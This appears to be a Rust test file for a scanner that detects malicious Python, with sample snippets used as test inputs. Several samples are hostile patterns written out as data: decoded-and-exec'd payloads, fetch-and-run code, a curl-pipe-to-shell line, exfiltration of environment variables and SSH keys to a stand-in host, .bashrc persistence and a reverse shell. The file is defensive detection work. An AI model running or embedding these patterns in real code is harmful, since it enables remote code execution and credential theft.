//! Python as models bring it, and as attackers write it.

use proptest::prelude::*;

use super::*;
use crate::Verdict;
use crate::limits::Limits;
use crate::rule::Rule;
use crate::verdict::FileReport;

fn report(text: &str) -> FileReport {
    let mut scan = Scan::new(Limits::default());
    judge(Source::file(text.to_owned()), &mut scan);
    let input = crate::Input::from(text.as_bytes().to_vec());
    scan.understood(0..input.len());
    scan.conclude("t.py", &input)
}

fn has(text: &str, rule: Rule, verdict: Verdict) {
    let report = report(text);
    let found: Vec<&str> = report.findings.iter().map(|finding| finding.title.as_str()).collect();
    assert!(report.findings.iter().any(|finding| finding.rule == rule), "{rule} in {text}: {found:?}");
    assert_eq!(report.verdict, verdict, "{text}: {found:?} {:?}", report.coverage);
}

#[test]
fn ordinary_code_is_clean() {
    for text in [
        "import os\nimport torch\nfrom torch import nn\nHERE = os.path.dirname(os.path.abspath(__file__))\nclass M(nn.Module):\n    def forward(self, x):\n        self.eval()\n        return torch.compile(x)\n",
        "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L']).decode()\n",
        "import os\nos.makedirs(os.path.join('out', 'x'), exist_ok=True)\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
        "import requests\ndef get(url):\n    r = requests.get(url, headers={'Authorization': 'Bearer ' + __import__('os').environ['HF_TOKEN']})\n    return r.json()\n",
        "import subprocess, os\nsubprocess.run('pip install flash-attn --no-build-isolation', env={**os.environ, 'X': '1'}, shell=True)\n",
        "import re\nre.compile('x')\nfrom functools import partial\nf = partial(print, 1)\n",
        "import base64, io\nfrom PIL import Image\ndef load(s):\n    return Image.open(io.BytesIO(base64.b64decode(s)))\n",
        "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x', version=__version__)\n",
        "import sys\nsys.path.append('.')\nimport importlib\ndef load(name):\n    return getattr(importlib.import_module('models.' + name), name)\n",
        "import torch\nstate = torch.load('x.bin', weights_only=True)\n",
    ] {
        let report = report(text);
        let found: Vec<&str> = report.findings.iter().map(|finding| finding.title.as_str()).collect();
        assert_eq!(report.verdict, Verdict::Clean, "{text}: {found:?} {:?}", report.coverage);
    }
}

#[test]
fn code_that_is_decoded_and_run_is_malicious_however_it_is_written() {
    for text in [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiZWNobyBjYXNlbWF0ZSIp'))",
        "from base64 import b64decode as d\nx = d(open('x').read())\neval(compile(x, 'a', 'exec'))",
        "import zlib, marshal\ndef f(s):\n    return marshal.loads(zlib.decompress(s))\nexec(f(b'abc'))",
        "exec(bytes.fromhex('7072696e742831293b').decode())",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "exec(''.join(chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46]))",
        "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 41])))",
        "import base64\ng = globals()\ng['__builtins__']['exec'](base64.b64decode(x))",
        "import base64, types\ntypes.FunctionType(__import__('marshal').loads(base64.b64decode(x)), globals())()",
        "import base64\nclass A:\n    def run(self, s):\n        exec(base64.b64decode(s))\nA().run('x')",
        "import base64, threading\ndef go():\n    exec(base64.b64decode(X))\nthreading.Thread(target=go).start()",
        "import base64\n(lambda s: exec(base64.b64decode(s)))('x')",
    ] {
        has(text, Rule::PythonHiddenCode, Verdict::Malicious);
    }
}

#[test]
fn names_that_are_put_together_are_resolved() {
    for text in [
        "import os\ngetattr(os, 'sys' + 'tem')('echo casemate')",
        "__import__('o' + 's').system('echo casemate')",
        "import os\ngetattr(os, 'metsys'[::-1])('echo casemate')",
        "import builtins\nbuiltins.__dict__['ex' + 'ec'](x)",
        "import sys\nsys.modules['so'[::-1]].system('id')",
        "n = 'sub%s' % 'process'\n__import__(n).run(['sh'])",
        "import os\ngetattr(os, ''.join(['s', 'ys', 'tem']))('x')",
        "import os\ngetattr(os, chr(115) + 'ystem')('x')",
        "x = ().__class__.__base__.__subclasses__()",
    ] {
        has(text, Rule::PythonHiddenName, Verdict::Malicious);
    }
    has("__import__('os').system('whatever')", Rule::PythonHiddenName, Verdict::Suspicious);
}

#[test]
fn a_call_is_found_however_it_is_named() {
    for text in [
        "import os as o\no.system('x')",
        "from os import system as s\ns('x')",
        "from os import *\nsystem('x')",
        "import os\nf = os.system\nf('x')",
        "import os\nf = print\nif a:\n    f = os.system\nf('x')",
        "import logging\nlogging.os.system('x')",
        "from logging import os\nos.system('x')",
        "import os\n(f := os.system)('x')",
        "import os\n[f('x') for f in (os.system,)]",
        "import os, functools\nfunctools.partial(os.system, 'x')()",
        "import os\nlist(map(os.system, ['x']))",
        "import os, atexit\natexit.register(os.system, 'x')",
        "import os\n@os.system\ndef f(): pass",
        "try:\n    import os as p\nexcept ImportError:\n    p = None\np.system('x')",
        "import importlib\nimportlib.import_module('os').system('x')",
        "exec('import os; os.system(1)')",
    ] {
        let found = report(text).facts;
        assert!(found.iter().any(|fact| fact.detail.contains("`os.system` at import")), "{text}: {found:?}");
    }
}

#[test]
fn code_that_is_fetched_and_run_is_malicious() {
    for text in [
        "import requests\nexec(requests.get('https://x.example/a').text)",
        "from urllib.request import urlopen\ndef go():\n    code = urlopen('https://x.example').read().decode()\n    exec(code)\n",
        "import urllib.request, os\nurllib.request.urlretrieve('https://x.example/a', 'a.bin')\nos.system('chmod +x a.bin; ./a.bin')",
        "import requests, subprocess\nwith open('run.me', 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen(['./run.me'])",
        "import requests\ns = requests.Session()\nr = s.get(u)\nexec(r.text)",
    ] {
        has(text, Rule::PythonFetchedCode, Verdict::Malicious);
    }
}

#[test]
fn what_runs_at_import_is_worse_than_what_a_function_does() {
    has("import os\nos.system('echo casemate')\n", Rule::PythonProcess, Verdict::Suspicious);
    has("import os\ndef f():\n    os.system('echo casemate')\n", Rule::PythonProcess, Verdict::Clean);
    has(
        "import os\ndef f():\n    os.system('echo casemate')\nf()\n",
        Rule::PythonProcess,
        Verdict::Suspicious,
    );
    has(
        "import os\nif __name__ == '__main__':\n    os.system('echo casemate')\n",
        Rule::PythonProcess,
        Verdict::Clean,
    );
    has(
        "import os\nclass C:\n    def __init__(self):\n        os.system(self.x)\nc = C()\n",
        Rule::PythonProcess,
        Verdict::Suspicious,
    );
    has(
        "import os\nos.system('curl https://x.example/i.sh | sh')\n",
        Rule::ShellFetchedCode,
        Verdict::Malicious,
    );
}

#[test]
fn code_that_a_loader_runs_is_held_to_more() {
    let model = "import os, requests\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    pass\n";
    for (code, rule, verdict) in [
        ("os.system('echo casemate')\n", Rule::PythonProcess, Verdict::Malicious),
        ("def f():\n    os.system('echo casemate')\n", Rule::PythonProcess, Verdict::Suspicious),
        ("def f():\n    os.system('nvidia-smi')\n", Rule::PythonProcess, Verdict::Clean),
        ("requests.get('https://x.example')\n", Rule::PythonNetwork, Verdict::Suspicious),
        ("def f(url):\n    return requests.get(url).content\n", Rule::PythonNetwork, Verdict::Clean),
    ] {
        has(&format!("{model}{code}"), rule, verdict);
    }
}

#[test]
fn credentials_shells_and_what_stays_are_seen() {
    has(
        "import requests, os\nrequests.post('https://x.example', json=dict(os.environ))",
        Rule::PythonExfiltration,
        Verdict::Malicious,
    );
    has(
        "import urllib.request as u, json, os\ndef go():\n    u.urlopen(u.Request('https://x.example', data=json.dumps(os.environ.copy()).encode()))\ngo()",
        Rule::PythonExfiltration,
        Verdict::Malicious,
    );
    has(
        "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(u, data=k)",
        Rule::PythonExfiltration,
        Verdict::Malicious,
    );
    has(
        "from pathlib import Path\nk = (Path.home() / '.aws/credentials').read_text()\nopen('/mnt/me/.aws/credentials')",
        Rule::PythonCredentials,
        Verdict::Suspicious,
    );
    has(
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
        Rule::PythonPersistence,
        Verdict::Malicious,
    );
    has(
        "import socket, os, pty\ns = socket.socket()\ns.connect(('x.example', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        Rule::PythonReverseShell,
        Verdict::Malicious,
    );
}

#[test]
fn an_installation_that_runs_things_is_seen() {
    let text = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('echo casemate')\nsetup(cmdclass={'install': I})\n";
    has(text, Rule::PythonSetupCommand, Verdict::Suspicious);
    let text = "from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe']).decode()\nsetup(version=v)\n";
    assert_eq!(report(text).verdict, Verdict::Clean);
}

#[test]
fn lines_and_offsets_are_those_of_the_call() {
    let report = report("import os\n\ndef f():\n    os.system(x)\n");
    let finding = &report.findings[0];
    assert!(finding.title.starts_with("Line 4: "), "{}", finding.title);
    assert_eq!(finding.location.offset, 24);
    let fact = &report.facts[0];
    assert_eq!(
        (fact.name.as_str(), fact.detail.as_str()),
        ("process", "line 4: `os.system` in function `f`")
    );
}

#[test]
fn deep_and_endless_code_ends() {
    for text in [
        "(".repeat(100_000),
        "-".repeat(100_000),
        format!("x{}", ".a".repeat(100_000)),
        "a=[a,a]\n".repeat(20_000),
        "s=s+s\n".repeat(10_000),
    ] {
        report(&text);
    }
    let calls: String = (0..2000)
        .map(|i| format!("def f{i}():\n  f{}()\n  f{}()\n", (i + 1) % 2000, (i + 2) % 2000))
        .collect();
    report(&format!("{calls}f0()\n"));
    let nested = format!("x = {}1{}", "[".repeat(390), "]".repeat(390));
    assert_eq!(report(&nested).verdict, Verdict::Clean);
}

#[test]
fn text_is_python_only_if_it_parses_and_does_something() {
    assert!(is_python("import os\n"));
    for text in ["key: value\n", "hello world", "from the start of time\n", "numpy\ntorch\n"] {
        assert!(!(may_be(text) && is_python(text)), "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn no_text_makes_it_panic_and_twice_is_the_same(text in "[ -~\n]{0,200}") {
        prop_assert_eq!(report(&text), report(&text));
    }

    #[test]
    fn changed_code_does_not_make_it_panic(at in 0_usize..400, with in "[(\\[{'\"\n =.,:+*x0-]{0,3}") {
        let valid = "import os, base64\nclass A(B):\n    @d(1)\n    def f(self, a=1, *b, **c):\n        x = [chr(i ^ 3) for i in b'ab'] + f'{a!r:>{c}} {{}}'.split()\n        with open('x', 'w') as f, g() as h:\n            exec(base64.b64decode('eA=='))\n        return (lambda q: q or os.system('a' % 1))(x[::-1])\nmatch x:\n    case {'a': [1, *_]} if y: pass\n";
        let before: String = valid.chars().take(at).collect();
        let after: String = valid.chars().skip(at + 1).collect();
        let text = format!("{before}{with}{after}");
        report(&text);
    }
}
